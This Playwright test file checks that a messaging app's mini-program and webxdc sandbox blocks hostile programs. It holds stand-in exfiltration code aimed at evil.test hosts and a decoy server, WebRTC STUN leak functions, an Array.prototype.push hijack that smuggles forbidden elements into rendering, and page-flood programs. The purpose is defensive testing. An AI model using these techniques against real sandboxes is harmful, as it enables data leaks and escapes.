/**
 * Hostile mini programs in a real browser (docs/spec/programs.md PR10, PR11, PR14): each way out and each wish of
 * hostile-ways.ts, tried where a program's code runs and in what draws it, with the browser's own log of its network;
 * floods, with how long the app's page did not answer; and programs that are used and say nothing to anybody. What it
 * prints is judged by the evidence. `npm run evidence -- --whole` plays all of it, and `npm test` a part.
 */
import { createSocket } from "node:dgram";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Browser, type ConsoleMessage, expect, type FrameLocator, type Page, test } from "@playwright/test";
import { packProgram } from "@yanshu/mini/compile";
import { appOf, orchard, orchardAbout, sourcesOf } from "@yanshu/mini/testkit";
import { BrowserSetup, phone } from "./browser-setup.ts";
import { floods, floodsOfApps } from "./hostile-floods.ts";
import { pagesOfApps, waysByDrawing, waysOut, waysOutOfWorker, wishes } from "./hostile-ways.ts";
import { goes, home, shot } from "./people.ts";
import { sends } from "./program-hands.ts";

const isWhole = process.env["YANSHU_PROGRAMS"] === "whole";
const evilHost = "127.0.0.2";
/** What each says of itself, and no more than that: nobody learns anything by it. */
const harmless = ["origin", "isolated", "sabThere"];
/** What leads the page around away cannot be tried by a frame of a plain page. */
const controls = Object.entries(waysOut).filter(([name]) => !/top|parent/i.test(name));

let setup: BrowserSetup;
let browser: Browser;
let mum: Page;
let folder: string;
const evil = { http: [] as string[], port: 0 };
const asked = createServer(({ url = "" }, answer) => {
  const way = /^\/plain\/(\w+)$/.exec(url)?.[1];
  if (way === undefined) evil.http.push(url.slice(1));
  answer.setHeader("access-control-allow-origin", "*");
  answer.setHeader("content-type", "text/html");
  answer.end(way === undefined ? "" : plainPage(way));
});
asked.on("upgrade", ({ url = "" }, socket) => {
  evil.http.push(url.slice(1));
  socket.destroy();
});
const stun = createSocket("udp4");
let datagrams = 0;
stun.on("message", () => {
  datagrams += 1;
});

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ playwright }) => {
  test.setTimeout(120_000);
  folder = mkdtempSync(join(tmpdir(), "yanshu-hostile-"));
  await new Promise<void>((resolve) => asked.listen(0, evilHost, resolve));
  evil.port = (asked.address() as AddressInfo).port;
  await new Promise<void>((resolve) => stun.bind(0, evilHost, resolve));
  const { launchOptions } = test.info().project.use;
  // By this the browser hands an address to another program of the computer.
  const handed = `#!/bin/sh\necho "$@" >>"${join(folder, "leads")}"\n`;
  writeFileSync(join(folder, "leads"), "");
  for (const name of ["xdg-open", "xdg-settings", "gio"]) writeFileSync(join(folder, name), handed, { mode: 0o755 });
  browser = await playwright.chromium.launch({
    ...launchOptions,
    env: { ...(process.env as Record<string, string>), PATH: `${folder}:${process.env["PATH"]}` },
    args: [
      ...(launchOptions?.args ?? []),
      `--log-net-log=${join(folder, "net.json")}`,
      `--host-resolver-rules=MAP *.evil.test ${evilHost}`,
    ],
    // With these a test's browser does not connect ahead, and lets a page go to another place of itself without end;
    // people's browsers connect ahead, and let it go two hundred times in ten seconds.
    ignoreDefaultArgs: ["--disable-background-networking", "--disable-ipc-flooding-protection"],
  });
  setup = await BrowserSetup.start(browser);
  const context = await browser.newContext({ viewport: phone.size, locale: phone.locale, reducedMotion: "reduce" });
  mum = await context.newPage();
  mum.on("websocket", (socket) => socket.on("framesent", ({ payload }) => frames.push(nameOf(Buffer.from(payload)))));
  await setup.settle(mum, "妈妈");
  await toHerself();
});

test.afterAll(async () => {
  await browser?.close();
  await setup?.close();
  asked.close();
  stun.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Frames that her page and its workers sent to home, by the name of a call (packages/wire/src/frames.ts). */
const frames: string[] = [];
const nameOf = (frame: Buffer) => frame.subarray(6, 6 + (frame[5] ?? 0)).toString("latin1");

/** Her own notes, into which she sends programs. */
async function toHerself(): Promise<void> {
  await home(mum);
  await mum.getByTestId("tab-contacts").click();
  await mum.getByTestId("own").click();
}

const room = () => mum.frameLocator("[data-testid=program-frame]");

async function opens(name: string, bytes: Uint8Array, ending = "ymp"): Promise<void> {
  await sends(mum, `${name}.${ending}`, bytes);
  await opensAgain(name);
}

async function opensAgain(name: string): Promise<void> {
  await mum.getByTestId("program-card").filter({ hasText: name }).last().getByTestId("program-open").click();
  // It is fetched and read first: who looked at once would take it for closed, and tap again.
  await expect(mum.getByTestId("program")).toBeVisible({ timeout: 30_000 });
}

/** Words before each way: where it shall ask, and what it may use. `prefix` tells who asked. */
function addresses(name: string, prefix: string): string {
  const called = `${prefix}-${name}`.toLowerCase();
  const { port } = stun.address();
  return `var E='http://${called}.evil.test:${evil.port}/${called}',D='${called}.dns.test';
function RTC(w){var p=new w.RTCPeerConnection({iceServers:[{urls:'stun:${evilHost}:${port}'},{urls:'stun:'+D+':3478'}]});p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o)});w.__p=p}
function RTCD(w){var p=new w.RTCPeerConnection({iceServers:[{urls:'stun:'+D+':3478'}]});p.createDataChannel('x');p.createOffer().then(function(o){return p.setLocalDescription(o)});w.__p=p}`;
}

/** A page as anybody may have one: no policy, no sandbox. */
function plainPage(way: string): string {
  const code = waysOut[way] ?? "";
  const script = `${addresses(way, "plain")};(async()=>{try{${code}}catch(e){}})()`;
  return `<!doctype html><meta charset=utf-8><body><script>${script.replaceAll("</script", "<\\/script")}</script>`;
}

/** A program that tries everything when it is opened, once against the evil server and once against home itself. */
async function hostile(): Promise<Uint8Array> {
  const ways = { ...waysOut, ...waysOutOfWorker, ...waysByDrawing };
  const tries = (prefix: string, of: Readonly<Record<string, string>>) =>
    Object.entries(of).map(([name, code]) => {
      const toHome = `var E=${JSON.stringify(`${setup.origin}/leak-${name.toLowerCase()}`)};`;
      const before = `${addresses(name, prefix)};${prefix === "home" ? toHome : ""}`;
      return `[${JSON.stringify(name)},async function(){${before}try{${code}}catch(e){throw e}}]`;
    });
  const script = `var G=(function(){return this})(),self=G,globalThis=G,fetch=G.fetch,XMLHttpRequest=G.XMLHttpRequest,
WebSocket=G.WebSocket,navigator=G.navigator,location=G.location,indexedDB=G.indexedDB,caches=G.caches,document=G.document,
window=G.window,parent=G.parent,top=G.top,opener=G.opener,localStorage=G.localStorage,sessionStorage=G.sessionStorage,
importScripts=G.importScripts,history=G.history;
var at=900000,more=[],push=G.Array.prototype.push,page;
G.Array.prototype.push=function(op){if(more.length>0&&G.Array.isArray(op)&&op[0]==='words'&&typeof op[1]==='number'){var all=more;more=[];for(var i=0;i<all.length;i++)push.call(this,all[i])}return push.apply(this,arguments)};
function draws(ops){for(var i=0;i<ops.length;i++)push.call(more,ops[i]);page.setData({n:at+=1})}
function A(tag,set,style){at+=1;var ops=[['element',at,tag]];for(var k in set)ops.push(['set',at,k,set[k]]);
if(style||set.style)ops.push(['style',at,style||set.style]);ops.push(['append',1,at]);
ops.push(['append',2,at]);draws(ops)}
var out=[${[...tries("evil", ways), ...tries("home", ways)].join(",\n")}];
var wish=[${tries("evil", wishes).join(",\n")}];
Page({data:{said:'',n:0},onLoad:async function(){page=this;var got=[],ran=0;
for(var i=0;i<out.length;i++){try{out[i][1]().catch(function(){});ran++}catch(e){};if(i%20===0)await new Promise(function(r){setTimeout(r,120)})}
await Promise.all(wish.map(function(w){return Promise.race([w[1](),new Promise(function(_,b){setTimeout(function(){b(new Error('silent'))},1200)})]).then(function(v){if(v!==undefined)got.push(w[0])},function(){})}));
page.setData({said:'tried '+out.length+' and '+wish.length+', got '+got.sort().join(' ')})}})`;
  const page = { "pages/a/a.wxml": "<view>{{said}}</view><text>{{n}}</text>", "pages/a/a.js": script };
  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about("坏"))).bytes;
}

/** Whether a page of an app holds a frame, which none may. */
const toldOfFrames = `setTimeout(()=>{if(frames.length>0)webxdc.sendUpdate({payload:'got'})},50);if(frames.length>0)webxdc.sendUpdate({payload:'got'})`;

/** What an app of webxdc has of its own, laid in place of what an origin of nobody's has not; and what harms nobody. */
const ownOfApp = [
  ...harmless,
  "localStorage",
  "sessionStorage",
  "indexedDB",
  "cookieRead",
  "cookieWrite",
  "evalThere",
  "ancestorOrigins",
  "historyHash",
  "historyBack",
  "measureUa",
  "alert",
  // Of its parent's frames it is the only one.
  "siblings",
];

/**
 * Each way and each wish as an app of webxdc of its own, in the page that draws them, with the headers that home sends.
 *
 * @param prefix `app` tries it by itself, and `touched` as after a touch of a person's.
 * @returns wishes that came true.
 */
async function triesAsWebxdc(names: readonly string[], prefix: "app" | "touched"): Promise<readonly string[]> {
  const all: Readonly<Record<string, string>> = { ...waysOut, ...wishes };
  const cases = names.map((name) => {
    const before = addresses(name, prefix);
    const markup = pagesOfApps[name];
    if (markup !== undefined) {
      const script = `<script>${before};RTC(self)</script>`.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
      const address = `http://${prefix}-${name}.evil.test:${evil.port}/${prefix}-${name}`.toLowerCase();
      const page = markup.replaceAll("SCRIPT", () => script).replaceAll("EVIL", () => address);
      return [name, `<!doctype html><body>${page}<script>${toldOfFrames}</script></body>`] as const;
    }
    const body =
      name in wishes
        ? `const v=await (async()=>{${all[name]}})();if(v!==undefined)webxdc.sendUpdate({payload:'got'})`
        : all[name];
    const script = `${before};self.go=async()=>{try{${body}}catch(e){}};${prefix === "app" ? "go()" : ""}`;
    return [
      name,
      `<!doctype html><body><script>${script.replaceAll("</script", "<\\/script")}</script></body>`,
    ] as const;
  });
  const got: string[] = [];
  for (let at = 0; at < cases.length; at += 8) {
    await beginsApps(cases.slice(at, at + 8));
    if (prefix === "touched") {
      await mum.waitForTimeout(700);
      // What a driver runs in a page counts for the browser as after a touch.
      for (const frame of mum.frames().filter((one) => one.url() === "about:srcdoc"))
        await Promise.race([
          frame.evaluate(() => void (self as unknown as { readonly go?: () => unknown }).go?.()).catch(() => undefined),
          new Promise((resolve) => setTimeout(resolve, 2_000)),
        ]);
    }
    await mum.waitForTimeout(1_500);
    got.push(...(await endsApps()));
  }
  return got;
}

type Trying = { readonly apps: Set<() => void>; readonly got: string[] };

/** Frames of such apps in her page, by their names. */
function beginsApps(cases: readonly (readonly [string, string])[]): Promise<void> {
  return mum.evaluate((tries) => {
    const trying: Trying = { apps: new Set(), got: [] };
    Object.assign(window, { trying });
    for (const [name, html] of tries) {
      const frame = document.createElement("iframe");
      const files = new Map([["index.html", new TextEncoder().encode(html)]]);
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => {
        const self = { address: "0", name: "" };
        if (data.kind === "frame") port1.postMessage({ kind: "begin", files, page: "index.html", stored: {}, self });
        else if (data.kind === "share") trying.got.push(name);
      };
      const meet = ({ source, data }: MessageEvent) => {
        if (source !== frame.contentWindow || data?.kind !== "frame") return;
        window.removeEventListener("message", meet);
        frame.contentWindow?.postMessage({ kind: "port" }, "*", [port2]);
      };
      window.addEventListener("message", meet);
      frame.src = "/mini/webxdc.html";
      document.body.append(frame);
      trying.apps.add(() => {
        frame.remove();
        port1.close();
      });
    }
  }, cases);
}

function endsApps(): Promise<readonly string[]> {
  return mum.evaluate(() => {
    const { apps, got } = (window as unknown as { readonly trying: Trying }).trying;
    for (const end of apps) end();
    return got;
  });
}

const about = (name: string) => ({ name, version: "1" });

/** What a browser gives after a touch, if at all. */
const byTouch = [
  "execCopy",
  "clipboardWrite",
  "openAlone",
  "protocolLink",
  "anchorDownload",
  "saveFile",
  "share",
  "fullscreen",
];

/** Five programs as people use them. Each counts what was tapped, in its own way. */
const used: Readonly<Record<string, string>> = {
  数: "page.setData({said:String(n)})",
  记: "wx.setStorageSync('n',n);page.setData({said:String(wx.getStorageSync('n'))})",
  列: "list.push(n);page.setData({list:list,said:String(list.length)})",
  问: "wx.request({url:'https://example.test/'+n,fail:function(){page.setData({said:String(n)})}})",
  题: "wx.setNavigationBarTitle({title:'第'+n});wx.showToast({title:'第'+n});wx.login({});page.setData({said:String(n)})",
};

async function counting(name: string, code: string): Promise<Uint8Array> {
  const script = `var n=0,list=[];Page({data:{said:'0',list:[]},tap:function(){var page=this;n+=1;${code}}})`;
  const markup =
    '<view class="said">{{said}}</view><button bindtap="tap">点</button><view wx:for="{{list}}" wx:key="*this">{{item}}</view>';
  const page = { "pages/a/a.wxml": markup, "pages/a/a.js": script };
  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about(name))).bytes;
}

/**
 * What the app asks home by its clock, whatever is done: the vault takes messages some fifteen seconds later, and where
 * a family meets again, and which homes it may go to, is asked when the device signed in and then by the day.
 */
const ofItself = ["vaultAppend", "homeState", "meetingPlaces", "reserveOffered", "homeMoves"];

test("[PR8] [PR10] R4.2 programs: five that are used ask nobody for anything, and home hears nothing of it", async () => {
  test.setTimeout(180_000);
  const [some, actions] = isWhole ? [Object.entries(used), 100] : [Object.entries(used).slice(1, 3), 30];
  frames.length = 0;
  for (const [name, code] of some) await opensOnce(name, await counting(name, code));
  await isUp();
  const requests: string[] = [];
  const sent: string[] = [];
  let isUsed = false;
  // The app loads its own files ahead, whatever is done.
  mum.on("request", (request) => {
    if (isUsed && !request.url().startsWith(`${setup.origin}/assets/`)) requests.push(request.url());
  });
  for (const [name] of some) {
    await opensAgain(name);
    await expect(room().locator(".said")).toBeVisible();
    const frame = await (await mum.getByTestId("program-frame").elementHandle())?.contentFrame();
    frames.length = 0;
    isUsed = true;
    await frame?.evaluate(async (count) => {
      for (let at = 0; at < count; at += 1) {
        document.querySelector<HTMLElement>("wx-button")?.click();
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
    }, actions);
    await expect(room().locator(".said")).toHaveText(`${actions}`);
    await mum.getByTestId("program-close").click();
    isUsed = false;
    sent.push(...frames.filter((name) => !ofItself.includes(name)));
  }
  await goes(mum, "/scan");
  frames.length = 0;
  await mum.getByTestId("paste-link").fill("@nobody-here");
  await mum.getByTestId("open-link").click();
  await expect.poll(() => frames.length).toBeGreaterThan(0);
  await toHerself();
  console.log(
    `R4.2 programs: ${some.length} programs, ${actions} actions each, ${requests.length} requests, ${sent.length} frames to home; a question to home: ${frames.length}`,
  );
  expect({ requests, sent }).toEqual({ requests: [], sent: [] });
});

/** What was sent has gone up: room was asked for, and two looks find that no frame went to home in between. */
async function isUp(): Promise<void> {
  await expect.poll(() => frames, { timeout: 30_000 }).toContain("blobTokens");
  let before = -1;
  await expect
    .poll(
      () => {
        const isSame = frames.length === before;
        before = frames.length;
        return isSame;
      },
      { intervals: [1_500], timeout: 30_000 },
    )
    .toBe(true);
}

/** Opened, so that its package is here, and closed again. */
async function opensOnce(name: string, bytes: Uint8Array): Promise<void> {
  await opens(name, bytes);
  await expect(room().locator(".said")).toBeVisible();
  await mum.getByTestId("program-close").click();
}

/**
 * What stands before the floods: each says in the browser's console that it begins, and what went wrong in its code.
 * One that throws at once would hold nobody up, and look as if all were well.
 */
const beginning = `var long='很长的话'.repeat(120),large='大'.repeat(300000);
function run(name,f,given){setTimeout(function(){console.info('flood begun '+name);tries(function(){f(given)})},100)}
function tries(f){try{f()}catch(x){if(x&&x.isMeant)throw x;console.info('flood broken '+x)}}
function every(n,f){var i=0;setInterval(function(){for(var k=0;k<n/20||k<1;k++)tries(function(){f(i++)})},n<20?1000/n:50)}`;

/** A program whose buttons each begin one flood. */
async function flooding(): Promise<Uint8Array> {
  const cases = Object.entries(floods).map(([name, code]) => `${JSON.stringify(name)}:function(page){${code}}`);
  const script = `var G=(function(){return this})(),setInterval=G.setInterval;${beginning}
var all={${cases.join(",\n")}};
Page({data:{list:[],style:'',all:'',range:[],rich:''},tap:function(e){var name=e.currentTarget.dataset.name;run(name,all[name],this)}})`;
  const buttons = Object.keys(floods).map((name) => `<button data-name="${name}" bindtap="tap">${name}</button>`);
  const markup = `<view style="{{style}}">满</view>${buttons.join("")}<view style="{{all}}"><view wx:for="{{list}}" wx:key="*this">{{item}}</view></view><view class="wide" range="{{range}}"></view><rich-text nodes="{{rich}}"></rich-text>`;
  const page = { "pages/a/a.wxml": markup, "pages/a/a.js": script };
  return (await packProgram(sourcesOf({ "app.json": '{ "pages": ["pages/a/a"] }', ...page }), about("洪水"))).bytes;
}

/** An app of webxdc with the same. */
function floodingApp(): Uint8Array {
  const cases = Object.entries(floodsOfApps).map(([name, code]) => `${JSON.stringify(name)}:()=>{${code}}`);
  const script = `${beginning}
const to=document.querySelector('#to'),out=document.querySelector('#out');
const all={${cases.join(",\n")}};
document.addEventListener('click',e=>{const f=all[e.target.dataset.name];if(f)run(e.target.dataset.name,f)})`;
  const buttons = Object.keys(floodsOfApps).map((name) => `<button data-name="${name}">${name}</button>`);
  const page = `<!doctype html><meta charset="utf-8"><a id="to" href="two.html"></a><a id="out" href="https://a.example/"></a>${buttons.join("")}<script src="flood.js"></script>`;
  return appOf({ "index.html": page, "two.html": page, "flood.js": script });
}

/** The longest time in which the app's page ran nothing, since it was asked last. */
function longestMs(): Promise<number> {
  return mum.evaluate(() => {
    const page = window as unknown as { longest?: number; beats?: number; last: number };
    if (page.longest === undefined) {
      page.last = performance.now();
      setInterval(() => {
        const now = performance.now();
        page.longest = Math.max(page.longest ?? 0, now - page.last);
        page.last = now;
      }, 5);
    }
    const longest = page.longest ?? 0;
    page.longest = 0;
    return Math.round(longest);
  });
}

type Flooding = { readonly called: string; readonly names: readonly string[]; readonly within: () => FrameLocator };

/** Which floods, of a list that is separated by commas; `all` (`npm run floods`). */
const pickedFloods = process.env["YANSHU_FLOODS"]?.split(",");
/** Longer than this a person notices. */
const stallMsMax = 100;
const floodsMs = isWhole ? 1_800_000 : 600_000;

/** Each flood, begun by a touch and closed by one; the best of the tries. */
async function floodsOf({ called, names, within }: Flooding, say: string): Promise<void> {
  const [tries, ms] = isWhole ? [3, 2_000] : [1, 800];
  const longest: Record<string, number> = {};
  const said: string[] = [];
  const listen = (message: ConsoleMessage) => void (said.length < 1_000 && said.push(message.text()));
  mum.on("console", listen);
  for (const name of names) {
    const all: number[] = [];
    for (let at = 0; at < tries; at += 1) {
      if (!(await mum.getByTestId("program").isVisible())) await opensAgain(called);
      const button = within().getByText(name, { exact: true });
      await expect(button).toBeVisible({ timeout: 20_000 });
      await longestMs();
      await button.click();
      await expect.poll(() => said, { timeout: 30_000 }).toContain(`flood begun ${name}`);
      await mum.waitForTimeout(ms);
      all.push(await longestMs());
      const [stop, close] = [mum.getByTestId("program-stop"), mum.getByTestId("program-close")];
      // How long that may take is judged by the figure.
      if (await stop.isVisible()) await stop.click({ timeout: 30_000 });
      else await close.click({ timeout: 30_000 });
      await expect(mum.getByTestId("program")).toHaveCount(0);
      expect(said.filter((words) => words.startsWith("flood broken"))).toEqual([]);
      said.length = 0;
    }
    const best = Math.min(...all);
    longest[name] = best;
    if (isWhole || pickedFloods !== undefined)
      console.log(`${say}, ${name}: ${best} ms, ${best > stallMsMax ? "missed" : "met"} (${all.join(", ")})`);
  }
  mum.off("console", listen);
  const worst = Object.entries(longest).sort(([, one], [, other]) => other - one);
  console.log(
    `${say}: ${names.length} floods, ${tries} tries, longest ${worst[0]?.[1]} ms (${worst.map(([name, one]) => `${name} ${one}`).join(", ")})`,
  );
}

const some = (all: Readonly<Record<string, string>>, few: readonly string[]) =>
  pickedFloods === undefined || pickedFloods.includes("all")
    ? isWhole
      ? Object.keys(all)
      : few
    : pickedFloods.filter((name) => name in all);

test("[PR11] [PR14] [PR49] R5.5 floods: whatever a program floods, the app answers, and closes it", async () => {
  test.setTimeout(floodsMs);
  const names = some(floods, ["asked", "messages"]);
  if (names.length === 0) return;
  await opens("洪水", await flooding());
  await floodsOf({ called: "洪水", names, within: room }, "R5.5 floods");
});

test("[PR11] [PR42] [PR66] R5.5 floods of apps: whatever an app of webxdc floods, the app answers, and closes it", async () => {
  test.setTimeout(floodsMs);
  const names = some(floodsOfApps, ["goto", "threads"]);
  if (names.length === 0) return;
  await opens("大水", floodingApp(), "xdc");
  await floodsOf({ called: "大水", names, within: () => room().frameLocator("iframe") }, "R5.5 floods of apps");
});

if (isWhole)
  test("[PR12] R5.5 large: a package as large as one may be opens after all that", async () => {
    test.setTimeout(240_000);
    const picture = new Uint8Array(19 << 20);
    for (let at = 0; at < picture.length; at += 65_536) crypto.getRandomValues(picture.subarray(at, at + 65_536));
    const sources = orchard();
    sources.set("large.png", picture);
    const { bytes } = await packProgram(sources, { ...orchardAbout, name: "大果园" });
    await sends(mum, "大果园.ymp", bytes);
    await longestMs();
    const since = Date.now();
    await opensAgain("大果园");
    await expect(room().getByText("果园 · 第1次")).toBeVisible({ timeout: 120_000 });
    console.log(
      `R5.5 large: ${bytes.length} bytes opened in ${Date.now() - since} ms, longest ${await longestMs()} ms`,
    );
    await mum.getByTestId("program-close").click();
  });

test("[PR10] [PR31] [PR82] R5.5 programs: everything that a hostile program tries reaches nobody, and reads nothing of ours", async () => {
  test.setTimeout(isWhole ? 600_000 : 240_000);
  const [before, foreign] = [datagrams, [] as string[]];
  mum.on("framenavigated", (frame) => {
    if (frame.url() !== "about:blank" && !frame.url().startsWith(setup.origin)) foreign.push(frame.url());
  });
  await opens("坏", await hostile());
  const said = room().getByText(/^tried /);
  await expect(said).toBeVisible({ timeout: 60_000 });
  const words = (await said.textContent()) ?? "";
  const got = (words.split("got ")[1] ?? "").split(" ").filter((name) => name !== "" && !harmless.includes(name));
  // What no template draws was drawn, by the names that are left of it.
  expect(await room().locator("wx-iframe").count()).toBeGreaterThan(0);
  await shot(mum, "hostile-program");
  await mum.getByTestId("program-close").click();
  expect(foreign).toEqual([]);
  expect(mum.context().pages()).toHaveLength(1);
  const asApps = { ...waysOut, ...wishes, ...pagesOfApps };
  const picked = process.env["YANSHU_WAYS"]?.split(",");
  const tried = Object.keys(asApps).filter((name, at) => picked?.includes(name) ?? (isWhole || at % 24 === 0));
  const tapped = isWhole || picked !== undefined ? tried.filter((name) => !(name in pagesOfApps)) : byTouch;
  const taken = [...(await triesAsWebxdc(tried, "app")), ...(await triesAsWebxdc(tapped, "touched"))].filter(
    (name) => !ownOfApp.includes(name),
  );
  await expect(mum.getByTestId("conversation")).toBeVisible();
  const outside = { http: [...evil.http], datagrams: datagrams - before };

  const plain = await (await browser.newContext()).newPage();
  await plain.goto(`http://${evilHost}:${evil.port}/`);
  const some = isWhole ? controls : controls.filter((_, at) => at % 6 === 0);
  await plain.evaluate(
    async (names) => {
      const ended = (frame: HTMLIFrameElement) =>
        new Promise((resolve) => setTimeout(resolve, 2_500)).then(() => frame.remove());
      for (let at = 0; at < names.length; at += 12)
        await Promise.all(
          names.slice(at, at + 12).map((name) => {
            const frame = document.createElement("iframe");
            frame.src = `/plain/${name}`;
            document.body.append(frame);
            return ended(frame);
          }),
        );
    },
    some.map(([name]) => name),
  );
  // The log is whole once the browser has ended.
  await browser.close();
  const log = readFileSync(join(folder, "net.json"), "utf8") + readFileSync(join(folder, "leads"), "utf8");
  const seen = (prefix: string, name: string) =>
    new RegExp(`[^a-z]${prefix}-${name}\\.(?:evil|dns)\\.test`, "i").test(log) ||
    evil.http.includes(`${prefix}-${name}`.toLowerCase());
  const ways = Object.keys({ ...waysOut, ...waysOutOfWorker, ...waysByDrawing });
  const through = ways.filter((name) => seen("evil", name.toLowerCase()));
  const atHome = ways.filter((name) => log.includes(`/leak-${name.toLowerCase()}`));
  const shown = some.filter(([name]) => seen("plain", name));
  const appsThrough = [...tried, ...byTouch].filter((name) => seen("app", name) || seen("touched", name));
  console.log(
    `R5.5 webxdc: ${tried.length} ways and wishes, ${appsThrough.length} names (${appsThrough.join(" ")}), ${taken.length} got (${taken.join(" ")})`,
  );
  console.log(
    `R5.5 programs: ${ways.length} ways, ${through.length} out (${through.join(" ")}), ${atHome.length} to home (${atHome.join(" ")}), ${outside.datagrams} datagrams; ${Object.keys(wishes).length} wishes, ${got.length} got (${got.join(" ")}); a plain page: ${shown.length} of ${some.length} out`,
  );
  if (isWhole) {
    const silent = some.flatMap(([name]) => (seen("plain", name) ? [] : [name]));
    console.log(`R5.5 programs, which this browser does not do for a plain page either: ${silent.join(" ")}`);
  }
  expect(outside).toEqual({ http: [], datagrams: 0 });
  expect(taken).toEqual([]);
  expect({ through, atHome, got }).toEqual({ through: [], atHome: [], got: [] });
  expect(shown.length).toBeGreaterThan(some.length / 2);
});
